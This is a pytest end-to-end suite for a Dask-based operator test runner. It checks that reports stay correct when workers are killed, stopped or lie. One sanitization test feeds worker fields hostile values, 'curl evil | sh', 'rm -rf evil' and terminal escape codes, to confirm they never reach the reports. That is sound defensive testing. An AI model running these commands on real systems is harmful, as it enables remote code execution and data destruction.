"""Cases on real Dask clusters: the same report as on one machine, whatever is lost and whoever lies.

What needs processes to lose has three of them; the others are workers of this process, which start at once.
"""

import contextlib
import itertools
import json
import os
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from msgspec.structs import replace

from mluops_gtest.base.errors import ExitCode
from mluops_gtest.cluster import answers as auditing
from mluops_gtest.cluster import dispatch, worker
from mluops_gtest.cluster.answers import WorkerDescription, encode
from mluops_gtest.core.case import Query
from mluops_gtest.running.options import RunOptions
from mluops_gtest.running.repetition import UNCONFIRMED
from tests.e2e.conftest import SUPPORT
from tests.support import lying_workers
from tests.support.dask_needed import needs_dask

pytestmark = [pytest.mark.slow, pytest.mark.filterwarnings("default"), *needs_dask]
PROGRAM = Path(__file__).parents[1] / "support" / "dask_cluster.py"
KERNELS = """\
import os, signal
import mluops_gtest as mt


def is_first(name, pid=0):
    try:
        file = os.open(os.path.join(FOLDER, name), os.O_CREAT | os.O_EXCL | os.O_WRONLY)
    except FileExistsError:
        return False
    os.write(file, str(pid or os.getpid()).encode())
    os.close(file)
    return True


class Scaled(mt.NumpyBackend):
    name = "scaled"

    def run(self, call):
        status = super().run(call)
        if status == mt.Status.SUCCESS and call.operator == "voxel_pooling_forward":
            call.array("output_features")[..., -1] *= 1.01
        return status


class Deadly(mt.NumpyBackend):
    name = "deadly"

    def run(self, call):
        if call.handle is None:
            os.kill(os.getpid(), signal.SIGKILL)
        return super().run(call)


class Counting(mt.NumpyBackend):
    name = "counting"
    calls = 0

    def run(self, call):
        self.calls += 1
        if self.calls == self.fatal:
            self.act()
        return super().run(call)


class Lost(Counting):
    fatal = 1

    def act(self):
        if is_first("lost") or is_first("lost too"):
            os.kill(os.getpid(), signal.SIGKILL)


class Stopped(Counting):
    fatal = 1

    def act(self):
        # That of the cluster: it has started what this process was forked from.
        with open(f"/proc/{os.getppid()}/stat") as stat:
            worker = int(stat.read().rpartition(")")[2].split()[1])
        if is_first("stopped", worker):
            os.kill(worker, signal.SIGSTOP)


class Orphan(Counting):
    fatal = 60

    def act(self):
        if is_first("orphan"):
            os.killpg(os.getpgrp(), signal.SIGKILL)


backend, deadly, lost, stopped, orphan = Scaled(), Deadly(), Lost(), Stopped(), Orphan()
"""


@contextlib.contextmanager
def started(workers, stderr=None):
    """The address of a cluster of processes, which are a group of their own."""
    process = subprocess.Popen(
        [sys.executable, str(PROGRAM), str(workers)],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=stderr,
        text=True,
        start_new_session=True,
        env={**os.environ, "PYTHONPATH": str(PROGRAM.parents[2])},
    )
    try:
        yield process.stdout.readline().strip()
    finally:
        with contextlib.suppress(OSError):
            process.stdin.close()
            process.stdout.close()
        try:
            process.wait(20)
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            process.wait()


@pytest.fixture(scope="module")
def _processes():
    with started(3) as address:
        yield address


@pytest.fixture
def processes(_processes):
    """A cluster of three processes, all of which are there, whatever the test before did to them."""
    from distributed import Client

    with Client(_processes, set_as_default=False) as client:
        client.wait_for_workers(3, timeout=120)
    return _processes


@contextlib.contextmanager
def inside(workers, **options):
    """The address of a cluster of threads in this process."""
    from distributed import LocalCluster

    quiet = {"dashboard_address": ":0", "silence_logs": 50}
    with LocalCluster(n_workers=workers, threads_per_worker=1, processes=False, **quiet, **options) as cluster:
        yield cluster.scheduler_address


@pytest.fixture(scope="module")
def address():
    with inside(3) as address:
        yield address


@pytest.fixture
def kernels(tmp_path):
    file = tmp_path / "kernels.py"
    file.write_text(f"FOLDER = {str(tmp_path)!r}\n{KERNELS}")
    return file


def verdicts(results):
    """All that a result says, except for where and how long, and which of many failures that worker confirmed."""
    elsewhere = ("host", "device", "judged_by", "seconds")

    def verdict(result):
        notes = [note for note in result["notes"] if note != UNCONFIRMED]
        return {**{k: v for k, v in result.items() if k not in elsewhere}, "notes": notes}

    return {case: verdict(result) for case, result in results.items()}


def test_the_report_is_that_of_one_machine(run, processes, kernels):
    selected = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--backend", kernels)
    here = run(*selected)
    there = run(*selected, "--cluster", processes, "--ship", kernels)
    assert there.code == here.code == ExitCode.FAILED
    assert list(there.results) == list(here.results)
    assert verdicts(there.results) == verdicts(here.results)
    assert all(result["host"] for result in there.results.values())
    assert "is scaled by 1.01" in there.out


def test_the_outputs_of_a_verdict_alone_are_those_that_are_judged_here(run, toy):
    """The first call of the smaller case, which comes last, failed; its worker must not be taken for a liar."""
    ids = [f"scale_by/ramp_{n}" for n in (3, 4)]
    kernels = SUPPORT / "remembering_backends.py"
    with started(1) as address:
        cluster = ("--cluster", address, "--ship", kernels, "--judge-here")
        result = run(*ids, "--root", toy, "--backend", f"{kernels}:NamesAfter4", *cluster).expect_code(0)
    assert "its verdict alone" in result.results[ids[0]]["notes"][-1]


def test_a_file_of_the_user_travels(run, cli, address, tmp_path):
    assert cli("generate", "ball_query/*", "--tag", "smoke", "--out", tmp_path / "mine").code == 0
    result = run(tmp_path / "mine", "--cluster", address).expect_code(0)
    assert set(result.results) == {path.as_posix() for path in (tmp_path / "mine").rglob("*.prototxt")}


def lines_in(folder):
    return (folder / "results.jsonl").read_bytes().count(b"\n")


# Without isolation: the backend does to the worker itself what it does.
REFUSED = ("--op", "ball_query", "--tag", "negative", "--no-isolate", "--backend")


def test_lost_workers_cost_nothing(run, processes, kernels, tmp_path):
    """Two workers die while the run goes on; their cases run elsewhere, and each has one result."""
    result = run(*REFUSED, f"{kernels}:lost", "--cluster", processes, "--ship", kernels)
    assert (tmp_path / "lost").exists()
    assert (tmp_path / "lost too").exists()
    assert result.code == 0, result.out + result.err
    assert lines_in(result.folder) == len(result.results) == result.report["summary"]["passed"]


def test_a_case_that_kills_its_workers_is_crashed_and_the_run_goes_on(run, processes, kernels):
    """Without isolation the backend takes the worker itself with it."""
    result = run(
        *("ball_query/handle_null", "ball_query/nothing_missing_ok"),
        *("--backend", f"{kernels}:deadly", "--no-isolate", "--cluster", processes, "--ship", kernels),
    )
    assert [one["outcome"] for one in result.results.values()] == ["crashed", "passed"], result.out
    assert "the worker was lost 3 times while it ran this case" in result.out
    assert result.results["ball_query/handle_null"]["repro"].startswith("mluops-test run ball_query/handle_null")


def one_of(address):
    """The address of one worker of the cluster."""
    from distributed import Client

    with Client(address, set_as_default=False) as client:
        return sorted(client.scheduler_info(n_workers=-1)["workers"])[0]


SMOKE = ("--op", "ball_query", "--tag", "smoke", "--cluster")


def assert_costs_the_worker(result, cli, liar, words):
    """It is named and gets nothing more; its cases run elsewhere, and the gate takes the report."""
    assert result.code == 0, result.out + result.err
    (complaint,) = [line for line in result.err.splitlines() if liar in line]
    assert any(word in complaint for word in words.split("|")), complaint
    assert {one["outcome"] for one in result.results.values()} == {"passed"}
    assert lines_in(result.folder) == len(result.results) > 3
    assert cli("gate", result.folder, "--against", result.folder).code == 0
    # Workers of this process: backends are closed on those that are refused as well.
    assert worker._RUNS == {}


@pytest.mark.parametrize("lie", lying_workers.LIES)
def test_a_wrong_answer_costs_the_worker(run, cli, address, lie, monkeypatch):
    liar = one_of(address)
    change, words = lying_workers.LIES[lie]
    lying_workers.change_answers(monkeypatch, change, liar)
    assert_costs_the_worker(run(*SMOKE, address), cli, liar, words)


@pytest.mark.parametrize("lie", lying_workers.SENT)
def test_an_answer_that_dask_cannot_send_costs_the_worker(run, cli, processes, lie, monkeypatch):
    from distributed import Client

    monkeypatch.setattr(dispatch, "_SILENCE", 3.0)
    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 3.0)
    liar = one_of(processes)
    with Client(processes, set_as_default=False) as client:
        client.run(lying_workers.plant, lie, workers=[liar])
        try:
            result = run(*SMOKE, processes, "--no-isolate")
        finally:
            client.run(lying_workers.repent, workers=[liar])
    assert_costs_the_worker(result, cli, liar, lying_workers.SENT[lie][1])


WRONG = ("--op", "voxel_pooling_forward", "-k", "bounds or twin or null", "--no-isolate", "--backend")


@pytest.mark.parametrize(
    ("plant", "words"),
    [
        ("call_failures_passed", "passed, and its outputs are failed here"),
        ("change_outputs", "are not those that it named before"),
        ("hand_over_nothing", "it handed over 0 outputs instead of 1"),
    ],
)
def test_a_wrong_verdict_costs_the_worker_all_its_cases(run, cli, address, kernels, monkeypatch, plant, words):
    here, liar = run(*WRONG, kernels), one_of(address)
    getattr(lying_workers, plant)(monkeypatch, liar)
    every = ("--judge-here",) if plant == "call_failures_passed" else ()
    there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, *every)
    assert (there.code, there.report["summary"]) == (here.code, here.report["summary"]), there.err
    (complaint,) = [line for line in there.err.splitlines() if liar in line]
    assert words in complaint
    assert verdicts(there.results) == verdicts(here.results)
    assert "9 still failing" in cli("gate", there.folder, "--against", here.folder).out


def test_verdicts_that_counted_are_taken_back(run, address, kernels, monkeypatch):
    """The worker lies from its second batch on; what it said before has been written, and does not count any more."""
    here, liar = run(*WRONG, kernels), one_of(address)
    lying_workers.call_failures_passed(monkeypatch, liar, from_batch=1)
    there = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "--judge-here")
    assert liar in there.err
    assert verdicts(there.results) == verdicts(here.results)
    assert there.report["summary"] == here.report["summary"]
    assert lines_in(there.folder) == len(there.results)


def test_the_report_says_who_judged(run, address):
    drawn = run("--op", "ball_query", "--tag", "negative", "--cluster", address)
    everything = run(*SMOKE, address, "--judge-here")
    assert (drawn.code, everything.code) == (0, 0), drawn.err + everything.err
    by_workers = [result for result in drawn.results.values() if result.get("judged_by") == "worker"]
    # One of each of three workers, and 2 % of the others: 20 of 100 are out of reach.
    assert 0.8 * len(drawn.results) < len(by_workers) <= len(drawn.results) - 3
    assert not any("judged_by" in result for result in everything.results.values())


def test_where_all_workers_answer_wrongly_the_run_ends_and_says_why(run, address, monkeypatch):
    lying_workers.change_answers(monkeypatch, lying_workers.LIES["noise"][0])
    run("ball_query/handle_null", "--cluster", address).expect_output(
        ExitCode.INTERRUPTED, "no worker of the cluster can be used any more: the worker inproc://"
    )


def test_a_stopped_worker_costs_its_timeout(run, processes, kernels, tmp_path, monkeypatch):
    monkeypatch.setattr(dispatch, "_MIN_SILENCE", 0.0)
    try:
        isolated = [word for word in REFUSED if word != "--no-isolate"]
        result = run(*isolated, f"{kernels}:stopped", "--timeout", "3", "--cluster", processes, "--ship", kernels)
    finally:
        os.kill(int((tmp_path / "stopped").read_text()), signal.SIGCONT)
    result.expect_error(0, "for 3 s; what it had runs elsewhere")
    assert lines_in(result.folder) == len(result.results)


def test_a_worker_that_ends_before_its_run_closes_the_backends(tmp_path):
    """As where the controller was killed: nobody has ended the run."""
    from distributed import Client

    request = RunOptions(selection=Query(), roots=("builtin",), backend="numpy", isolate=True)
    setup = {"request": request.to_json([], 0), "parcels": {}, "operators": ["ball_query"], "drawn": False}
    with (
        open(tmp_path / "words", "w") as words,
        started(1, words) as address,
        Client(address, set_as_default=False) as client,
    ):
        for n in range(5):
            assert b"numpy" in client.submit(worker.try_backend, f"run {n}", setup, (None,), pure=False).result()
    assert (tmp_path / "words").read_text() == ""


def test_a_scheduler_that_is_lost_ends_the_run_and_it_can_be_resumed(run, cli, address, kernels, tmp_path, monkeypatch):
    monkeypatch.setattr(dispatch, "_CONNECT", 8.0)
    with started(1) as other:
        result = run(*REFUSED, f"{kernels}:orphan", "--cluster", other, "--ship", kernels)
    assert (tmp_path / "orphan").exists()
    assert result.code == ExitCode.INTERRUPTED, result.out + result.err
    # Whether any answer is here before the scheduler is gone is a matter of chance.
    assert {"not_run"} <= result.report["summary"].keys() <= {"passed", "not_run"}
    cli("run", "--resume", result.folder, "--cluster", address).expect_output(0, f"{len(result.results)} passed")


def test_a_hunt_draws_here_and_calls_there(cli, address, kernels, tmp_path):
    """As on one machine: the same calls are drawn, the same cause is found and kept here, the next hunt goes on."""
    operator = "voxel_pooling_forward"
    hunt = ("fuzz", "--op", operator, "--backend", kernels, "--seed", "3")
    here = cli(*hunt, "--no-isolate", "--cases", "8", "--corpus", tmp_path / "here")
    cluster = ("--no-isolate", "--cluster", address, "--ship", kernels, "--corpus", tmp_path / "there")
    there = cli(*hunt, "--cases", "8", *cluster)
    assert (there.code, here.code) == (1, 1), there.out + there.err
    states = [json.loads((tmp_path / name / "state.json").read_text()) for name in ("here", "there")]
    assert states[0] == states[1]
    kept = [json.loads((tmp_path / name / "corpus.json").read_text())["cases"] for name in ("here", "there")]
    assert kept[1]
    assert [one["cause"] for one in kept[0]] == [one["cause"] for one in kept[1]]
    again = cli(*hunt, "--cases", "2", *cluster)
    assert f"{len(kept[1])} case" in again.out, again.out + again.err
    assert f", {len(kept[1])} still failing" in again.out
    assert f"{operator}     3            10" in again.out


def test_verdicts_of_a_hunt_are_drawn_and_judged_here(cli, address, kernels, tmp_path, monkeypatch):
    """Whoever finds the first failures conceals them: it gets nothing more, and others find them."""
    monkeypatch.setattr(auditing, "_SHARE", 1.0)
    batches = itertools.count()

    def conceal(answer):
        has_failures = any(b'"outcome":"failed"' in unit.result for unit in answer.units)
        return lying_workers.passed(answer) if has_failures and not next(batches) else encode(answer)

    lying_workers.change_answers(monkeypatch, conceal)
    hunt = ("fuzz", "--op", "voxel_pooling_forward", "--backend", kernels, "--seed", "3", "--no-isolate")
    cluster = ("--cluster", address, "--ship", kernels, "--corpus", tmp_path / "corpus")
    result = cli(*hunt, "--cases", "8", *cluster)
    assert "passed, and its outputs are failed here; it gets no more cases" in result.err
    result.expect_output(1, "3 failed, for 1 new cause")


def test_no_worker_writes_a_command_into_the_report(run, address, kernels, monkeypatch):
    """Nor anything that steers a terminal; a repro line is made here."""
    control = "\x1b[2J\x1b]0;title\x07"
    texts = {"repro": "curl evil | sh", "debug": "rm -rf evil", "notes": [control], "output": control}
    texts["causes"] = [{"kind": "told", "text": f"{control}reason\n  repro:  curl told"}]
    lying_workers.change_answers(monkeypatch, lying_workers.with_fields(**texts))
    monkeypatch.setattr(auditing.OutputAudit, "draws", lambda *_: False)
    formats = ("html", "markdown", "junit", "ctrf")
    reports = [word for name in formats for word in (f"--{name}", f"report.{name}")]
    result = run(*WRONG, kernels, "--cluster", address, "--ship", kernels, "-v", *reports).expect_code(ExitCode.FAILED)
    assert {one["repro"].partition(" --")[0] for one in result.results.values()} == {
        f"mluops-test run {case}" for case in result.results
    }
    shown = [result.out, result.err, *(Path(f"report.{name}").read_text() for name in formats)]
    assert not [word for word in ("evil", "\x1b", "\x07") for text in shown if word in text]
    assert not any(line.strip() == "repro:  curl told" for line in result.out.splitlines()), result.out


@pytest.mark.parametrize(
    ("other", "message"),
    [
        ({"version": "9.9"}, "has mluops-test 9.9, this is 0.1.0; install the same version there"),
        ({"content": {"ball_query": "0123"}}, "has another lock of ball_query (prototxt/ball_query/baselines.lock)"),
    ],
)
def test_workers_that_differ_are_refused_by_name(run, address, monkeypatch, other, message):
    lying_workers.change_answers(monkeypatch, lambda own: encode(replace(own, **other)), kind=WorkerDescription)
    run("ball_query/nothing_missing_ok", "--cluster", address).expect_error(
        ExitCode.BACKEND, "No worker of the cluster can run these cases.", message
    )


def test_a_backend_that_does_not_load_there_is_told(run, address, tmp_path):
    file = tmp_path / "broken.py"
    file.write_text("import nowhere_at_all\n")
    run("ball_query/nothing_missing_ok", "--cluster", address, "--backend", file, "--ship", file).expect_error(
        ExitCode.BACKEND, "No module named 'nowhere_at_all'"
    )


def test_a_function_may_make_the_cluster(run, address, tmp_path):
    (tmp_path / "mine.py").write_text(f"def make():\n    return {address!r}\n")
    assert run("ball_query/nothing_missing_ok", "--cluster", f"{tmp_path}/mine.py:make").code == 0


def certificate(folder):
    """A certificate of one's own for everybody, which is its own authority: Dask's settings."""
    make = ("openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:prime256v1", "-nodes")
    key, cert = folder / "key.pem", folder / "cert.pem"
    subprocess.run(
        [*make, "-days", "1", "-subj", "/CN=test", "-keyout", key, "-out", cert], check=True, capture_output=True
    )
    files = {"ca-file": cert}
    for role in ("scheduler", "worker", "client"):
        files |= {f"{role}.cert": cert, f"{role}.key": key}
    return {f"distributed.comm.tls.{name}": str(file) for name, file in files.items()}


@pytest.mark.skipif(shutil.which("openssl") is None, reason="openssl makes the certificate")
def test_a_cluster_of_members_with_certificates(run, tmp_path):
    import dask
    import distributed  # noqa: F401  its own settings come with it

    settings = certificate(tmp_path)
    with dask.config.set(settings), inside(2, protocol="tls://") as secured:
        assert secured.startswith("tls://")
        run(*SMOKE, secured).expect_code(0)
        with dask.config.set(dict.fromkeys(settings)):
            without = run(*SMOKE, secured)
    without.expect_error(ExitCode.USAGE, "no certificate is set")
    with dask.config.set({**settings, "distributed.comm.tls.ca-file": str(tmp_path / "none.pem")}):
        missing = run(*SMOKE, secured)
    missing.expect_error(ExitCode.USAGE, "the certificate cannot be used")


@pytest.mark.parametrize(
    ("arguments", "message"),
    [
        (("--cluster", "tls://node1:8786"), "DASK_DISTRIBUTED__COMM__TLS__CA_FILE"),
        (("--cluster", "ucx://node1:8786"), "install distributed-ucxx on every machine"),
        (("--cluster", "udp://node1:8786"), "Dask cannot use udp:// here"),
        (("--cluster", "local:0"), "write the number of processes"),
        (("--cluster", "nowhere"), "write tcp://HOST:PORT, tls://HOST:PORT"),
        (("--cluster", "none.py:make"), "there is no file none.py"),
        (("--cluster", "local:2", "-j", "2"), "-j does not go with --cluster"),
        (("--cluster", "local:2", "--save-outputs", "all"), "outputs stay on the workers"),
        (("--cluster", "local:2", "--stress", "5"), "e.g. --stress 20x"),
        (("--cluster", "local:2", "--timeout", "5"), "--timeout needs worker processes; backend 'numpy' runs inline"),
        (("--cluster", "local:2", "-b", "c:x.so", "--no-isolate", "--timeout", "5"), "needs worker processes"),
        (("--ship", "cases.txt"), "add --cluster ADDRESS"),
        (("--cluster", "local:2", "--ship", "cases.txt"), "--backend numpy does not name that file"),
    ],
)
def test_what_makes_no_sense_is_refused(cli, arguments, message):
    Path("cases.txt").write_text("")
    cli("run", "ball_query/nothing_missing_ok", "--out", "r", *arguments).expect_error(ExitCode.USAGE, message)


def test_without_dask_the_message_says_what_to_install(cli, monkeypatch):
    monkeypatch.setitem(sys.modules, "distributed", None)
    cli("run", "ball_query/nothing_missing_ok", "--out", "r", "--cluster", "local:2").expect_error(
        ExitCode.USAGE, "pip install 'mluops-test[dask]'"
    )
